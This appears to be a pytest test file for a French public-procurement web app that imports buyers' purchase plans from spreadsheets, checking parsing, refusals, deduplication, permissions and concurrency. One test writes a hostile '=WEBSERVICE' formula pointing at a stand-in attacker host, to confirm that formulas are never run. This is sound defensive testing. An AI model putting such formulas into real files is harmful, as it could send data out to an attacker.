"""A buyer's yearly purchase plan: read with its holes, judged line by line, registered at once and only once."""

from collections.abc import Sequence
from datetime import date, timedelta
from decimal import Decimal
from io import BytesIO
from threading import Barrier, Thread
from typing import Any
from uuid import uuid4

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from clauses.procurement.actions import plans, tenders
from clauses.procurement.choices import LineOutcome, TenderNature, TenderStatus
from clauses.procurement.forms.plans import read_lines
from clauses.procurement.models import PlanLine, PurchasePlan, Tender
from clauses.procurement.rules.plans import ReadLine, identity, nature_written
from clauses.procurement.selectors import awaited
from inclusiv.accounts.models import Organisation, Territory, TerritoryAssignment
from inclusiv.core.actors import Actor
from inclusiv.core.queues import Queue
from inclusiv.core.refusals import Refused
from inclusiv.core.uploads import rows_of
from inclusiv.core.workbooks import ROWS_READ
from inclusiv.demo.make import accounts
from inclusiv.demo.make.clauses import noon
from inclusiv.records.models import AuditEvent
from tests.conftest import ActingClient, Cast, make_cast

TODAY = date(2026, 11, 25)
NOW = noon(TODAY)
UPLOAD = reverse("procurement:plan-upload")
TITLES = ["N° de ligne", "Objet", "Nature", "Montant estimé (€ HT)", "Code CPV", "Procédure",
          "Lancement de la consultation", "Début d’exécution", "Durée (mois)", "Commune d’exécution",
          "Numéro du marché"]  # fmt: skip


def workbook(*rows: Sequence[Any]) -> bytes:
    """Return a workbook of these rows, as a spreadsheet writes it."""
    file = BytesIO()
    book = xlsxwriter.Workbook(file)
    sheet = book.add_worksheet()
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    for rank, row in enumerate(rows):
        for place, value in enumerate(row):
            if isinstance(value, date):
                sheet.write_datetime(rank, place, value, day)
            elif value not in (None, ""):
                sheet.write(rank, place, value)
    book.close()
    return file.getvalue()


def told(*rows: Sequence[str]) -> list[ReadLine]:
    return read_lines([TITLES, *rows])


def read(cast: Cast, *rows: Sequence[str], by: Actor | None = None, year: int = 2027) -> PurchasePlan:
    return plans.read(
        buyer=cast.commune, year=year, name="plan.xlsx", lines=told(*rows), by=by or cast.buyer, at=NOW
    )


def outcomes(plan: PurchasePlan) -> list[str]:
    return list(plan.lines.order_by("row").values_list("outcome", flat=True))


FULL = ("1", "Nettoyage des écoles", "Services", "180 000", "90910000-9", "MAPA", "15/01/2027", "2027-04-01",
        "24", "Évry-Courcouronnes", "2027-01")  # fmt: skip
HOLES = ("2", "Réfection de la toiture", "", "420000.00", "", "", "", "", "", "", "")
NO_AMOUNT = ("", "Mobilier scolaire", "F", "", "", "", "", "", "", "", "")


# Reading


def test_a_line_is_read_with_its_dates_and_its_holes() -> None:
    full, holes, bare = told(FULL, HOLES, NO_AMOUNT)
    assert (full.number, full.nature, full.estimated_amount, full.cpv) == (
        "1", TenderNature.SERVICES, Decimal(180_000), "90910000",
    )  # fmt: skip
    assert (full.consultation_launched_on, full.starts_on, full.ends_on) == (
        date(2027, 1, 15), date(2027, 4, 1), date(2029, 3, 31),
    )  # fmt: skip
    assert (holes.nature, holes.doubts) == (TenderNature.WORKS, ("Nature supposée : travaux.",))
    assert (bare.nature, bare.estimated_amount, bare.faults) == (TenderNature.SUPPLIES, None, ())


@pytest.mark.parametrize(
    ("row", "said"),
    [
        (("1", "", "Travaux", "10"), "Objet : à remplir"),
        (("1", "Achat sans rien", "", ""), "au moins un montant ou une nature"),
        (("1", "x", "Travaux", "beaucoup"), "« beaucoup » n’est pas un nombre"),
        (("1", "x", "Travaux", "-5"), "ne peut pas être négatif"),
        (("1", "x", "Bizarre", "5"), "« Bizarre » n’est ni travaux"),
        (("1", "x", "T", "5", "452"), "un code CPV compte 8 chiffres"),
        (("1", "x", "T", "5", "", "", "31/02/2027"), "« 31/02/2027 » n’existe pas"),
        (("1", "x", "T", "5", "", "", "", "2027-01-01", "0"), "au moins 1"),
        (("1", "x", "T", "5", "", "", "", "", "", "", "2027-numero-trop-long"), "16"),
        (("1", "y" * 1001, "T", "5"), "1000"),
        (("1", "Salarié 2 55 08 14 168 025 38", "T", "5"), "sécurité sociale"),
    ],
)
def test_what_cannot_be_read_is_said_by_column(row: tuple[str, ...], said: str) -> None:
    (line,) = told(row)
    assert said in " ".join(line.faults).replace("−", "-").replace("\u202f", "")


@pytest.mark.parametrize(
    "headings",
    [
        ["Intitulé du marché", "Type", "Budget HT"],
        ["LIGNE", "LIBELLE", "", "Catégorie", "Montant prévisionnel"],
        ["Objet de la consultation", "Estimation"],
    ],
)
def test_headings_are_known_by_their_words(headings: list[str]) -> None:
    values = ["x" if "o" in heading.lower() or "l" in heading.lower() else "" for heading in headings]
    rows = [["Plan d’achats 2027"], [], headings, values]
    (line,) = read_lines(rows)
    assert line.row == 4


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ([["Bonjour"], ["a", "b"]], "Aucune ligne de titres"),
        ([["Objet"], ["x"]], "Aucune ligne de titres"),
        ([], "Aucune ligne de titres"),
        ([TITLES, ["", ""], ["  "]], "aucune ligne en dessous"),
        ([TITLES, *[["1", "x", "T", "5"]] * ROWS_READ], "plus de 5\u202f000 lignes"),
    ],
)
def test_what_is_no_plan_is_refused_in_words(rows: list[list[str]], said: str) -> None:
    with pytest.raises(Refused, match=said) as refusal:
        read_lines(rows)
    assert refusal.value.field == "file"


@pytest.mark.parametrize(
    ("text", "nature"),
    [("TRAVAUX", "WORKS"), ("t", "WORKS"), ("Fournitures et services", "SERVICES"), ("prévu", None)],
)
def test_natures_are_read_as_buyers_write_them(text: str, nature: str | None) -> None:
    assert nature_written(text) == nature


def test_a_line_is_known_by_its_number_else_by_its_object() -> None:
    def known(number: str, title: str, *, year: int = 2027, buyer: int = 1) -> str:
        return identity(buyer, year, number=number, title=title)

    assert known("L-12", "a") == known("l 12", "b")
    assert known("", "Nettoyage  des Écoles") == known("", "nettoyage des ecoles")
    different = {
        known("12", "a"),
        known("13", "a"),
        known("", "a"),
        known("", "b"),
        known("12", "a", year=2028),
    }
    assert len({*different, known("12", "a", buyer=2)}) == 6


def test_a_real_workbook_gives_its_values_as_texts() -> None:
    content = workbook(
        ["Plan 2027"], TITLES, [1, "Nettoyage", "S", 180000.456, 90910000, "", date(2027, 1, 15), None, 24.0]
    )
    rows = rows_of(content)
    assert rows[2][:9] == ["1", "Nettoyage", "S", "180000.46", "90910000", "", "2027-01-15", "", "24"]
    (line,) = read_lines(rows)
    assert (line.row, line.estimated_amount) == (3, Decimal("180000.46"))


def test_a_formula_is_read_by_its_value_never_run() -> None:
    file = BytesIO()
    book = xlsxwriter.Workbook(file)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Objet", "Montant"])
    sheet.write_formula(1, 0, '=WEBSERVICE("https://evil.example")', None, "Nettoyage")
    sheet.write_formula(1, 1, "=1+1", None, 2)
    book.close()
    assert rows_of(file.getvalue())[1][:2] == ["Nettoyage", "2"]


def test_a_sheet_that_says_a_million_rows_is_read_to_the_limit() -> None:
    file = BytesIO()
    book = xlsxwriter.Workbook(file, {"constant_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Objet", "Montant"])
    sheet.write(1_048_575, 0, "loin")
    book.close()
    assert len(rows_of(file.getvalue())) <= ROWS_READ + 1


# Judging and registering


def test_each_line_says_what_would_become_of_it(cast: Cast, territory: Territory) -> None:
    tender = tenders.register(
        buyer=cast.commune, structure=cast.structure, reference="2027-09", title="Déjà là",
        nature=TenderNature.WORKS, place=None, by=cast.buyer, at=NOW,
    )  # fmt: skip
    plan = read(
        cast,
        (*FULL[:9], "91228", ""),
        ("1", "Encore le numéro 1", "T", "5", "", "", "", "", "", "Évry-Courcouronnes (91228)"),
        ("", "Sans lieu", "T", "5"),
        ("4", "Déjà là", "T", "5", "", "", "", "", "", "91228", "2027-09"),
        ("5", "Ville rêvée", "T", "5", "12345678", "", "", "", "", "Atlantis"),
        ("6", "", "T", "5"),
    )
    assert outcomes(plan) == ["NEW", "REFUSED", "REFUSED", "KNOWN", "REFUSED", "REFUSED"]
    remarks = list(plan.lines.order_by("row").values_list("remark", flat=True))
    assert remarks[1].startswith("Cette ligne répète la ligne 2")
    assert "Aucune structure" in remarks[2], "neither a place nor a seat tells who follows"
    assert plan.lines.get(number="4").tender == tender
    assert not Tender.objects.exclude(pk=tender.pk).exists(), "nothing is registered yet"


def test_a_place_or_a_cpv_that_is_not_known_is_left_aside_with_a_word(
    cast: Cast, territory: Territory
) -> None:
    cast.commune.commune_id = "91228"
    cast.commune.save()
    plan = read(cast, ("5", "Ville rêvée", "T", "5", "12345678", "", "", "", "", "Atlantis"))
    line = plan.lines.get()
    assert (line.outcome, line.place, line.structure) == (LineOutcome.NEW, None, cast.structure)
    assert "« Atlantis » inconnue" in line.remark
    assert "12345678 n’est pas dans notre liste" in line.remark


def test_confirming_registers_planned_tenders_in_one_event(cast: Cast, territory: Territory) -> None:
    cast.commune.commune_id = "91228"
    cast.commune.save()
    plan = read(cast, FULL, HOLES, NO_AMOUNT)
    assert plans.confirm(plan=plan, by=cast.buyer, at=NOW) == 3
    made = Tender.objects.order_by("pk")
    assert {tender.status for tender in made} == {TenderStatus.PLANNED}
    assert [tender.reference for tender in made] == ["2027-01", "PLAN-2027-0001", "PLAN-2027-0002"]
    assert (made[0].starts_on, made[0].ends_on) == (date(2027, 4, 1), date(2029, 3, 31))
    assert (made[0].place_id, made[0].department, made[0].structure) == ("91228", "91", cast.structure)
    event = AuditEvent.objects.get()
    assert event.code == "plan.imported"
    assert set(event.subjects) == {f"purchaseplan:{plan.pk}", *(f"tender:{tender.pk}" for tender in made)}
    assert event.data == {"year": "2027", "created": "3\u00a0marchés créés"}


def test_the_same_plan_twice_changes_nothing(cast: Cast, territory: Territory) -> None:
    row = (*FULL[:10], "")
    plan = read(cast, row)
    plans.confirm(plan=plan, by=cast.buyer, at=NOW)
    with pytest.raises(Refused, match="déjà importé"):
        plans.confirm(plan=plan, by=cast.buyer, at=NOW)
    again = read(cast, (row[0], "Un autre objet", *row[2:]))
    assert outcomes(again) == ["KNOWN"], "a line is known by its number"
    with pytest.raises(Refused, match="rien à créer"):
        plans.confirm(plan=again, by=cast.buyer, at=NOW)
    assert Tender.objects.count() == 1
    assert outcomes(read(cast, row, year=2028)) == ["NEW"], "another year is another purchase"


def test_what_was_registered_between_reading_and_confirming_is_known(
    cast: Cast, territory: Territory
) -> None:
    first, second = read(cast, FULL), read(cast, FULL, (*HOLES[:9], "91228"))
    plans.confirm(plan=first, by=cast.buyer, at=NOW)
    assert plans.confirm(plan=second, by=cast.buyer, at=NOW) == 1
    assert outcomes(second) == ["KNOWN", "CREATED"]


def test_a_facilitator_imports_for_a_buyer_what_its_structure_follows(
    cast: Cast, territory: Territory
) -> None:
    accounts.territory(cast.other_structure, name="Sud", epci=("200017846",))
    plan = read(
        cast,
        FULL,
        ("2", "Ailleurs", "T", "5", "", "", "", "", "", "91223"),
        ("3", "Sans lieu", "T", "5"),
        by=cast.facilitator,
    )
    assert outcomes(plan) == ["NEW", "REFUSED", "NEW"]
    assert "Ce lieu est suivi par PLIE Sud" in plan.lines.get(number="2").remark
    plans.confirm(plan=plan, by=cast.facilitator, at=NOW)
    event = AuditEvent.objects.get()
    assert event.on_behalf_of == "Commune de Valmont"
    assert {tender.facilitator_id for tender in Tender.objects.all()} == {cast.facilitator.user_id}


def handed_over(territory: Territory, commune: str, *, to: Organisation) -> None:
    """Have a commune followed by another structure from today on."""
    held = TerritoryAssignment.objects.filter(territory=territory, commune_id=commune)
    held.update(ends_on=TODAY - timedelta(days=1))
    theirs = Territory.objects.create(name="Sud", structure=to)
    TerritoryAssignment.objects.create(territory=theirs, commune_id=commune, starts_on=TODAY)


def test_a_commune_that_changes_hands_before_a_plan_is_confirmed_is_followed_by_its_new_structure(
    cast: Cast, territory: Territory
) -> None:
    plan = read(cast, FULL)
    handed_over(territory, "91228", to=cast.other_structure)
    plans.confirm(plan=plan, by=cast.buyer, at=NOW)
    assert Tender.objects.get().structure == cast.other_structure
    assert plan.lines.get().structure == cast.other_structure


def test_a_facilitator_leaves_it_to_the_new_structure(cast: Cast, territory: Territory) -> None:
    alone, both = (read(cast, *rows, by=cast.facilitator) for rows in ((FULL,), (FULL, HOLES)))
    handed_over(territory, "91228", to=cast.other_structure)
    with pytest.raises(Refused, match="Ce lieu est suivi par PLIE Sud") as refusal:
        plans.confirm(plan=alone, by=cast.facilitator, at=NOW)
    assert refusal.value.code == "nothing_new"
    assert plans.confirm(plan=both, by=cast.facilitator, at=NOW) == 1
    assert outcomes(both) == ["REFUSED", "CREATED"]
    assert "Ce lieu est suivi par PLIE Sud" in both.lines.order_by("row")[0].remark


@pytest.mark.parametrize("who", ["other_buyer", "contractor", "coordinator", "prescriber"])
def test_nobody_imports_for_the_buyer_of_another(who: str, cast: Cast, territory: Territory) -> None:
    plan = read(cast, FULL)
    actor = cast.everyone()[who]
    with pytest.raises(Refused):
        read(cast, FULL, by=actor)
    with pytest.raises(Refused):
        plans.confirm(plan=plan, by=actor, at=NOW)
    assert not Tender.objects.exists()


def many(number: int) -> list[tuple[str, ...]]:
    """Return lines with holes: one in seven without an amount, one in eleven that is refused."""
    return [
        (
            str(rank) if rank % 3 else "",
            f"Achat n° {rank} de la commune" if rank % 11 else "",
            "" if rank % 7 else "Travaux",
            str(1000 + rank) if rank % 7 else "",
            ("45214200", "", "90910000")[rank % 3],
            "",
            "15/01/2027" if rank % 5 else "",
            "",
            "",
            ("Évry-Courcouronnes", "91228", "", "Atlantis")[rank % 4],
        )
        for rank in range(1, number + 1)
    ]


def test_two_thousand_lines_with_holes_take_as_many_queries_as_two_hundred(
    cast: Cast, territory: Territory
) -> None:
    cast.commune.commune_id = "91228"
    cast.commune.save()
    spent = []
    for year, number in ((2027, 200), (2028, 2000)):
        lines = read_lines([TITLES, *many(number)])
        with CaptureQueriesContext(
            connection,
        ) as captured:
            plan = plans.read(
                buyer=cast.commune, year=year, name="plan.xlsx", lines=lines, by=cast.buyer, at=NOW
            )
            made = plans.confirm(plan=plan, by=cast.buyer, at=NOW)
        assert made == number - number // 11
        spent.append(len(captured))
    batches = 2000 // plans.BATCH
    assert spent[1] <= spent[0] + 3 * batches, "one insert or update a batch, and nothing a line"
    group = awaited.lots_to_describe(Queue(actor=cast.buyer, on=TODAY))
    assert group is not None
    assert group.total > 0


def test_what_a_plan_foresees_is_asked_for_near_its_consultation(cast: Cast, territory: Territory) -> None:
    launch = date(2027, 6, 1)
    dated = (*FULL[:6], launch.isoformat(), *FULL[7:])
    plan = read(cast, dated, ("2", "Sans date", "T", "5", "", "", "", "", "", "91228"))
    plans.confirm(plan=plan, by=cast.buyer, at=NOW)
    for days, number in ((121, 0), (120, 1)):
        group = awaited.lots_to_describe(Queue(actor=cast.buyer, on=launch - timedelta(days=days)))
        assert group is not None
        assert group.total == number


@pytest.mark.django_db(transaction=True)
def test_two_people_who_confirm_the_same_plan_register_it_once(reference: None) -> None:
    cast = make_cast()
    accounts.territory(cast.structure, name="Nord", epci=("200059228",))
    both = [read(cast, FULL, by=actor) for actor in (cast.buyer, cast.facilitator)]
    together = Barrier(2)
    said: list[str] = []

    def confirm(plan: PurchasePlan, by: Actor) -> None:
        together.wait()
        try:
            said.append(str(plans.confirm(plan=plan, by=by, at=NOW)))
        except Refused as refusal:
            said.append(refusal.code)
        finally:
            connection.close()

    threads = [
        Thread(target=confirm, args=args) for args in zip(both, (cast.buyer, cast.facilitator), strict=True)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(said) == ["1", "nothing_new"]
    assert Tender.objects.count() == 1


# On screen


def sent(content: bytes, **more: str) -> dict[str, Any]:
    file = SimpleUploadedFile("plan.xlsx", content, "application/octet-stream")
    return {"submission": str(uuid4()), "year": "2027", "file": file} | more


def test_a_buyer_uploads_reads_the_result_and_confirms(
    cast: Cast, territory: Territory, browser: ActingClient
) -> None:
    content = workbook(
        TITLES, [1, "Nettoyage", "Services", 180000, "", "", "", "", "", "91228"], [2, "", "T", 5]
    )
    answer = browser.acting(cast.buyer).post(UPLOAD, sent(content))
    plan = PurchasePlan.objects.get()
    assert answer.headers["Location"] == reverse("procurement:plan", args=[plan.pk])
    page = browser.get(answer.headers["Location"]).content.decode()
    assert "Rien n’est encore créé" in page
    assert "Créer 1\u00a0marché" in page.replace("1 marché", "1\u00a0marché")
    assert "Objet : à remplir" in page
    answer = browser.post(reverse("procurement:plan-confirm", args=[plan.pk]), follow=True)
    body = answer.content.decode()
    assert "Importé le" in body
    assert "Plan d’achats 2027 importé" in body
    export: Any = browser.get(reverse("procurement:plan", args=[plan.pk]), {"export": "csv"})
    assert b"".join(export.streaming_content).decode().count("\r\n") == 3


def test_the_model_file_is_itself_a_plan(cast: Cast, territory: Territory, browser: ActingClient) -> None:
    answer: Any = browser.acting(cast.buyer).get(reverse("procurement:plan-model"))
    content = b"".join(answer.streaming_content)
    assert rows_of(content)[0][1] == "Objet"
    lines = read_lines(rows_of(content))
    assert [line.faults for line in lines] == [(), (), ()]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"Objet;Montant", "plan.xlsx"),
        (workbook(["Bonjour"]), "Aucune ligne de titres"),
        (workbook(TITLES), "aucune ligne en dessous"),
    ],
)
def test_a_file_that_is_no_plan_is_refused_with_the_year_kept(
    content: bytes, said: str, cast: Cast, browser: ActingClient
) -> None:
    answer = browser.acting(cast.buyer).post(UPLOAD, sent(content, year="2031"))
    assert answer.status_code == 422
    assert said in answer.content.decode()
    assert 'value="2031"' in answer.content.decode()
    assert not PurchasePlan.objects.exists()


def test_the_plan_of_another_does_not_exist(cast: Cast, territory: Territory, browser: ActingClient) -> None:
    plan = read(cast, FULL)
    for name in ("plan", "plan-confirm"):
        address = reverse(f"procurement:{name}", args=[plan.pk])
        open_it = browser.get if name == "plan" else browser.post
        browser.acting(cast.other_buyer)
        assert open_it(address).status_code == 404
        browser.acting(cast.facilitator)
        assert open_it(address).status_code == 404, "read by the buyer itself"
        browser.acting(cast.contractor)
        assert open_it(address).status_code == 403
    assert (
        browser.acting(cast.buyer).get(reverse("procurement:plan-confirm", args=[plan.pk])).status_code == 405
    )


def test_the_page_of_a_plan_takes_as_many_queries_for_one_line_as_for_twenty(
    cast: Cast, territory: Territory, browser: ActingClient
) -> None:
    browser.acting(cast.buyer)
    spent = []
    for year, number in ((2027, 1), (2028, 20)):
        plan = read(cast, *[(str(rank), f"Achat {rank}", "T", "5") for rank in range(number)], year=year)
        browser.get(reverse("procurement:plan", args=[plan.pk]))
        with CaptureQueriesContext(connection) as captured:
            browser.get(reverse("procurement:plan", args=[plan.pk]))
        spent.append(len(captured))
    assert spent[0] == spent[1]
    assert PlanLine.objects.visible_to(cast.other_buyer).count() == 0
